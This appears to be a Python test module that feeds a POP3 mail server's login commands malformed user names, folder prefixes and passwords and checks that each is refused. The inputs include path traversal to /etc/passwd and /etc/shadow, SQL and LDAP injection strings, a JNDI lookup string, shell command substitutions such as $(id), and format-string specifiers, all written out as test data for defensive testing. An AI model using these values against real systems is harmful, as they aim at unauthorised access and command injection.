# SPDX-License-Identifier: ISC
"""Login names and passwords of every odd kind: formats, paths, folders of others, control characters, octets of no character set."""
import base64

from . import LONG, NOWHERE, NUL, OK, WHOLE, WRONG, add

# Names that could be somebody's and are nobody's; each is refused as a wrong password is.
NOBODY = {
    "none": b"nobody", "none-here": b"nobody-here@example.org", "elsewhere": b"anna@example.net", "format": b"%s%s%n%n",
    "format-width": b"%099999999d", "path": b"../../../../etc/passwd", "absolute": b"/etc/shadow", "dot": b".", "dots": b"..",
    "slash": b"/", "backslash": b"..\\..\\anna", "blank-behind": b"{user} ", "blank-ahead": b" {user}", "blanks": b"     ",
    "quoted": b'"{user}"', "brackets": b"<{user}>", "at": b"@", "at-ahead": b"@{user}", "at-behind": b"{user}@",
    "two-at": b"{user}@example.org",
    "star": b"*@example.org", "star-alone": b"*", "root": b"root", "sql": b"x' OR '1'='1", "sql-comment": b"x@example.org'--",
    "sql-percent": b"%@example.org", "sql-underscore": b"_@example.org", "utf-8": "а@example.org".encode(),
    "full-width": "＃{user}".encode(), "longest": b"n" * 248, "long-local": b"l" * 70 + b"@example.org",
    "comma": b"{user},bert@example.org", "semicolon": b"{user};id", "shell": b"$(id)@example.org", "backquote": b"`id`@example.org",
    "pipe": b"|id", "environment": b"$HOME", "jndi": b"${jndi:ldap://192.0.2.1/a}", "ldap": b"*)(uid=*))(|(uid=*", "colon": b"user:pass",
    "percent-hack": b"{user}%example.org", "bang": b"example.org!anna", "tilde": b"~", "tilde-root": b"~root", "equals": b"=", "ipv6": b"anna@[::1]",
}
for _name, _sent in NOBODY.items():
    add("name-" + _name, [(b"USER " + _sent + b"\r\n", OK), ("PASS {secret}", WRONG)])
    if b"{" not in _sent and len(_sent) < 200:
        _plain = base64.b64encode(b"\0" + b"p" + _sent + b"\0zq-s3cret-plain")
        add("name-plain-" + _name, [(b"AUTH PLAIN " + _plain + b"\r\n", WRONG)], modes=WHOLE)

# Folders ahead of the account's name, with its right password.
FOLDERS = {
    "none": "None", "up": "..", "up-and-down": "../x", "up-twice": "../../example.org/x", "absolute": "/etc", "dot": ".", "dots": "a..b",
    "slash-behind": "Lists/", "slash-ahead": "/Lists", "slashes": "a//b", "deep": "/".join("abcdefghijklmnopqrstuvwxyz"), "format": "%s%n",
    "hash": "a#b", "hashes": "####", "tilde-nobody": "~nobody", "tilde-up": "~../..", "tilde-folder": "~nobody/Lists",
    "other": "~bert", "other-inbox": "~bert@example.org/INBOX", "other-folder": "~bert/Lists", "other-up": "~bert/../bert",
    "tilde-slash": "~bert/..", "new": "new", "tmp": "tmp", "cur": "cur", "state": "spool", "long": "f" * 100, "utf-8": "\xc3\xa9t\xc3\xa9",
    "blank": " ", "inbox-folder": "INBOX/x", "star": "*", "semicolon": "x;id",
}
for _name, _folder in FOLDERS.items():
    add("folder-" + _name, [(b"USER " + _folder.encode("latin-1") + b"#{user}\r\n", OK), ("PASS {secret}", NOWHERE),
        ("USER {user}", OK), ("PASS {secret}", OK), ("STAT", OK)])
for _name, _folder in (("inbox", "INBOX"), ("inbox-lower-case", "iNbOx"), ("own", "~{user}"), ("own-inbox", "~{user}/INBOX")):
    add("folder-" + _name, [("USER " + _folder + "#{user}", OK), ("PASS {secret}", OK), ("STAT", OK)])

# What can be no name.  These share one delay, since none of them has an account to wait for; the clients do not.
for _name, _sent in {
        "control": b"a\x01b@example.org", "escape": b"\x1b[2J\x1b]0;owned\x07", "tab": b"an\tna", "cr": b"an\rna", "delete": b"anna\x7f",
        "empty-folder": b"#{user}", "empty-owner": b"~#{user}", "owner-empty-folder": b"~bert/#{user}", "empty-account": b"INBOX#",
        "8-bit": b"\xe4nn\xe4@example.org", "bad-utf-8": b"\xc3\x28\xf0\x28@example.org", "cut-utf-8": b"{user}\xe6\x97",
        "surrogate-utf-8": b"\xed\xa0\x80@example.org", "csi-8-bit": b"\x9b2J@example.org", "line-separator": "{user}\u2028".encode(),
        "folder-8-bit": b"\xe9t\xe9#{user}", "hash": b"#", "hashes": b"#" * 200, "backspaces": b"anna\x08\x08\x08\x08root"}.items():
    add("no-name-" + _name, [(b"USER " + _sent + b"\r\n", OK), ("PASS {secret}", None)], ends=True, late=True)
add("no-name-huge", [(b"AUTH PLAIN " + base64.b64encode(b"\0" + b"h" * 7000 + b"\0zq-s3cret-plain") + b"\r\n", None)], ends=True, late=True)

# Passwords that are not the account's.
for _name, _sent, _answer in (
        ("wrong", b"zq-s3cret-no", WRONG), ("format", b"%s%n%s%n", WRONG), ("blank", b" ", WRONG), ("blank-ahead", b" {secret}", WRONG),
        ("blank-behind", b"{secret} ", WRONG), ("tab-behind", b"{secret}\t", WRONG), ("cr-behind", b"{secret}\r", WRONG),
        ("twice", b"{secret}{secret}", WRONG), ("verifier", b"{PLAIN}{secret}", WRONG), ("8-bit", bytes(range(0x80, 0x100)), WRONG),
        ("cut-utf-8", b"{secret}\xe6\x97", WRONG), ("private-use", "{secret}\ue000".encode(), WRONG), ("combining", "{secret}\u0308".encode(), WRONG),
        ("control", b"\x01\x02\x1b[2J", WRONG), ("1024", b"w" * 1024, WRONG), ("1025", b"w" * 1025, LONG), ("huge", b"w" * 100000, LONG),
        ("nul", b"{secret}\0", NUL), ("nul-within", b"zq\0s3cret", NUL), ("star", b"*", WRONG), ("quoted", b'"{secret}"', WRONG),
        ("begin", b"zq-s3cret", WRONG), ("sql", b"' OR 1=1 --", WRONG), ("name", b"{user}", WRONG), ("none", b"", r"-ERR usage: PASS.*"),
        ("crypt", b"$6$salt$" + b"x" * 86, WRONG), ("shell", b"$(id)", WRONG)):
    add("password-" + _name, [("USER {user}", OK), (b"PASS " + _sent + b"\r\n", _answer)])
add("password-apop-wrong", [("APOP {user} " + "0" * 32, WRONG)])
add("password-apop-nobody", [("APOP nobody-apop " + "0" * 32, WRONG)])
add("password-apop-format", [("APOP %s%n " + "f" * 32, WRONG)])
add("password-right-behind-wrong", [("USER {user}", OK), ("PASS zq-s3cret-no", WRONG), ("USER {user}", OK), ("PASS {secret}", OK)])
